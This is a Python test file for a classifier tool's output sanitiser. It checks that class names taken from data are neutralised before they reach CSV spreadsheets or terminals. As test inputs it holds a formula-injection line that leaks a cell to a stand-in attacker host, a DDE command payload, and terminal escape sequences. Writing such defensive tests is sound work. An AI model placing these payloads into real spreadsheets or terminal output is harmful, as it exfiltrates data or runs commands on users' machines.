"""Output injection (issue 14): class names from the data cannot become spreadsheet formulas or
terminal escape sequences, and probability columns never collide with row/predicted or each
other."""

import csv
import io

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from softclass.jobs.output import (
    RESERVED_COLUMNS,
    neutralise_cell,
    probability_columns,
    spreadsheet_safe,
    terminal_text,
)
from softclass.jobs.store import load_model

pytestmark = pytest.mark.usefixtures("one_thread")

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\N{REPLACEMENT CHARACTER}=1"),
        ("\r=1", "'\N{REPLACEMENT CHARACTER}=1"),
        ("-1", "-1"),
        ("+2.5e3", "+2.5e3"),
        ("-.5", "-.5"),
        ("setosa", "setosa"),
        ("a=b", "a=b"),
        ("red\x1b[31m", "red\N{REPLACEMENT CHARACTER}[31m"),
        ("two\nlines", "two\N{REPLACEMENT CHARACTER}lines"),
        ("", ""),
    ],
)
def test_neutralise_cell(cell, safe):
    assert neutralise_cell(cell) == safe


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\x1b[2Jb", "ab"),
        ("a\x1b[1;31mred\x1b[0m", "ared"),
        ("\x1b]0;new window title\x07done", "done"),
        ("\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\", "link"),
        ("bell\x07", "bell\N{REPLACEMENT CHARACTER}"),
        ("back\x08space", "back\N{REPLACEMENT CHARACTER}space"),
        ("abc\u202edcba", "abc\N{REPLACEMENT CHARACTER}dcba"),
        ("csi\x9b31m", "csi\N{REPLACEMENT CHARACTER}31m"),
        ("line one\nline\ttwo", "line one\nline\ttwo"),
    ],
)
def test_terminal_text(text, shown):
    assert terminal_text(text) == shown


@given(st.text())
def test_terminal_text_leaves_no_escape_or_control_character(text):
    shown = terminal_text(text)
    assert not any(
        (ord(char) < 32 and char not in "\n\t") or 0x7F <= ord(char) <= 0x9F for char in shown
    )


@pytest.mark.parametrize(
    ("classes", "columns"),
    [
        (["a", "b"], ["a", "b"]),
        (["row", "proba_row"], ["proba_proba_row", "proba_row"]),
        (["proba_row", "row"], ["proba_row", "proba_proba_row"]),
        (
            ["predicted", "proba_predicted", "row"],
            ["proba_proba_predicted", "proba_predicted", "proba_row"],
        ),
    ],
)
def test_probability_columns(classes, columns):
    assert probability_columns(classes) == columns


@given(
    st.lists(
        st.sampled_from(["row", "predicted", "proba_row", "proba_", "a", ""])
        | st.text(max_size=12),
        unique=True,
        max_size=8,
    )
)
def test_probability_columns_are_distinct_and_never_reserved(classes):
    columns = probability_columns(classes)
    assert len(columns) == len(classes) == len(set(columns))
    assert not set(columns) & set(RESERVED_COLUMNS)
    for name, column in zip(classes, columns, strict=True):
        assert column.endswith(name) and (
            column == name or name in RESERVED_COLUMNS or column.startswith("proba_")
        )


def test_spreadsheet_safe_renames_clashing_neutralised_headers():
    table = pl.DataFrame({"row": [0], "=a": [0.5], "'=a": [0.5], "predicted": ["=a"]})
    safe = spreadsheet_safe(table)
    assert safe.columns == ["row", "'=a", "proba_'=a", "predicted"]
    assert safe["predicted"].to_list() == ["'=a"]


CLASSES = [HYPERLINK, "row", "proba_row", "\x1b[2J\x1b]0;pwned\x07red"]


def _header(text):
    return next(csv.reader(io.StringIO(text)))


@pytest.fixture
def hostile_model(tmp_path, run):
    rows = [
        {"x1": float(index % 4), "x2": float(index % 7), "label": CLASSES[index % 4]}
        for index in range(40)
    ]
    data = tmp_path / "hostile.csv"
    pl.DataFrame(rows).write_csv(data)
    model_dir = tmp_path / "model"
    code, out, err = run("train", data, "--out", model_dir, "--epochs", "1", "--target", "label")
    assert code == 0, err
    assert "\x1b" not in out + err
    return model_dir, data


def test_predict_csv_neutralises_class_names_and_keeps_every_column(hostile_model, run):
    model_dir, data = hostile_model
    code, out, err = run("predict", model_dir, data)
    assert code == 0, err
    assert "\x1b" not in out and "\x1b" not in err and "\x07" not in out
    table = pl.read_csv(out.encode())
    header = _header(out)  # polars does not undo "" in header names; the csv module does
    assert len(header) == table.width == 2 + len(CLASSES)  # row, a column per class, predicted
    assert "'" + HYPERLINK in header and HYPERLINK not in header
    assert {"proba_row", "proba_proba_row"} <= set(header)
    for cell in [*header, *table["predicted"].to_list()]:
        assert not cell.startswith(("=", "+", "-", "@")), cell
    sums = table.select(pl.sum_horizontal(pl.exclude("row", "predicted"))).to_series()
    assert (sums - 1).abs().max() < 1e-5


def test_predict_raw_keeps_class_names_exactly(hostile_model, run, tmp_path):
    model_dir, data = hostile_model
    output = tmp_path / "raw.csv"
    code, _, err = run("predict", model_dir, data, "--raw", "--output", output)
    assert code == 0, err
    table = pl.read_csv(output)
    classes = load_model(model_dir).classes
    assert sorted(classes) == sorted(CLASSES)
    assert _header(output.read_text()) == ["row", *probability_columns(classes), "predicted"]
    assert set(table["predicted"].to_list()) <= set(CLASSES)


def test_error_lines_carry_no_escape_sequences(run, tmp_path):
    rows = tmp_path / "rows.csv"
    rows.write_text("a,b\n1,2\n")
    code, _, err = run("predict", tmp_path / "no\x1b[2Jwhere", rows)
    assert code == 2 and "no such model directory" in err
    assert "\x1b[2J" not in err
